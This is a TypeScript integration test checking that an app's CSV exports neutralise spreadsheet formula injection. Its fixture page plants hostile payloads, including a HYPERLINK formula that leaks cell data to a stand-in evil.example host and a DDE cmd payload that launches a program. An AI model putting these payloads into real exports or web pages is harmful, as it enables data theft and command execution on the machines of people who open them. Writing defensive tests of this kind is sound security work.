import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { client, figure, type RunningSystem, startCompanySite, startSystem } from './support.ts';

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * The web app's export builders, loaded at run time: they are type-checked under web/tsconfig.json
 * (bundler resolution), which the services' tsconfig does not share, so only the surface used
 * here is declared.
 */
interface WebExports {
  EXPORT_FORMATS: readonly { id: string; extension: string }[];
  buildExport(
    format: string,
    input: { title: string; emails: { subject: string; body: string }[]; cadence: number[]; companyUrl: string },
  ): { content: string };
}
const load = <T>(relative: string): Promise<T> => import(new URL(relative, import.meta.url).href) as Promise<T>;
const { buildExport, EXPORT_FORMATS } = await load<WebExports>('../../web/src/lib/exports/index.ts');
const { parseCsv } = await load<{ parseCsv(text: string): string[][] }>('../../web/src/lib/exports/test-support.ts');

const HOSTILE_PAGE = `<!doctype html><html lang="en"><head>
<title>=HYPERLINK("http://evil.example/?leak="&A1,"Ledgerly") | Ledgerly</title>
<meta name="description" content="@SUM(1+1) Ledgerly closes the books for finance teams in days, not weeks.">
</head><body><main>
<section><h1>=cmd|' /C calc'!A0 Close the month in two days</h1>
<p>+1 Ledgerly reconciles bank feeds, cards and invoices automatically for finance teams.</p></section>
<section><h2>The problem</h2><ul>
<li>-2+3 Finance teams spend a week every month matching transactions by hand.</li>
<li>@SUM(A1) Spreadsheets break when the controller is away and nobody trusts the numbers.</li>
</ul></section>
<section><h2>How Ledgerly helps</h2><ul>
<li><strong>Automatic matching.</strong> Ledgerly matches bank transactions to invoices as they arrive.</li>
<li><strong>Audit trail.</strong> Every change is logged, so the auditors get answers in minutes.</li>
</ul></section>
</main></body></html>`;

describe('finding 10: every CSV the product writes neutralises formulas (embedded, npm start)', () => {
  let system: RunningSystem;
  let site: Awaited<ReturnType<typeof startCompanySite>>;
  let origin: string;

  beforeAll(async () => {
    site = await startCompanySite({ '/': HOSTILE_PAGE });
    origin = site.origin;
    system = await startSystem({ infra: 'embedded', env: { FETCH_ALLOWED_LOOPBACK_ORIGINS: origin } });
  }, 180_000);

  afterAll(async () => {
    await system?.stop();
    await site?.close();
  }, 60_000);

  it('keeps planted formulas inert in the spec CSV and every sequencer sheet', async () => {
    const call = client(system.url);
    expect(
      (await call('POST', '/api/register', { email: `csv-${Date.now()}@example.com`, password: 'a long password 1' }))
        .status,
    ).toBe(201);
    const companyUrl = `${origin}/`;
    const analysed = await call('POST', '/api/analyze-company', { companyUrl });
    expect(analysed.status, JSON.stringify(analysed.body)).toBe(200);
    const generated = await call('POST', '/api/generate-emails', {
      companyUrl,
      analysis: analysed.body.analysis,
      customization: {
        persona: 'specific',
        specificPersona: 'Controller',
        seniority: 'above',
        industry: 'specific',
        specificIndustry: 'SaaS',
        tone: 50,
        additionalContext: '',
        targetSpecificCompany: 'no',
        prospectCompanyUrl: '',
      },
    });
    expect(generated.status, JSON.stringify(generated.body)).toBe(200);

    // The rep's own edits are untrusted too: a subject and a body that open like formulas.
    const emails = generated.body.sequence.map((email: { subject: string; body: string }, index: number) =>
      index === 0 ? { subject: '=1+1 quick question', body: `@SUM(A1)\n${email.body}` } : email,
    );
    const saved = await call('POST', '/api/save-sequence', {
      title: '-Ledgerly outbound',
      companyUrl,
      emailSequence: { sequence: emails },
    });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    const [stored] = (await call('GET', '/api/saved-sequences')).body;
    expect(stored.emailSequence.sequence[0].subject).toBe('=1+1 quick question');

    const csvFormats = EXPORT_FORMATS.filter((format) => format.extension === 'csv');
    expect(csvFormats.map((format) => format.id)).toEqual(['csv', 'hubspot', 'outreach', 'apollo']);
    let cellsChecked = 0;
    for (const format of csvFormats) {
      const file = buildExport(format.id, {
        title: stored.title,
        emails: stored.emailSequence.sequence,
        cadence: [0, 3, 7, 11, 16, 21, 28],
        companyUrl,
      });
      const cells = parseCsv(file.content).flat();
      cellsChecked += cells.length;
      expect(
        cells.filter((cell) => FORMULA_START.test(cell)),
        format.id,
      ).toEqual([]);
      expect(
        cells.some((cell) => cell.startsWith("'=1+1 quick question")),
        format.id,
      ).toBe(true);
    }
    figure(`[fault 10] ${cellsChecked} CSV cells in ${csvFormats.length} formats, 0 open like a formula`);
  }, 120_000);
});
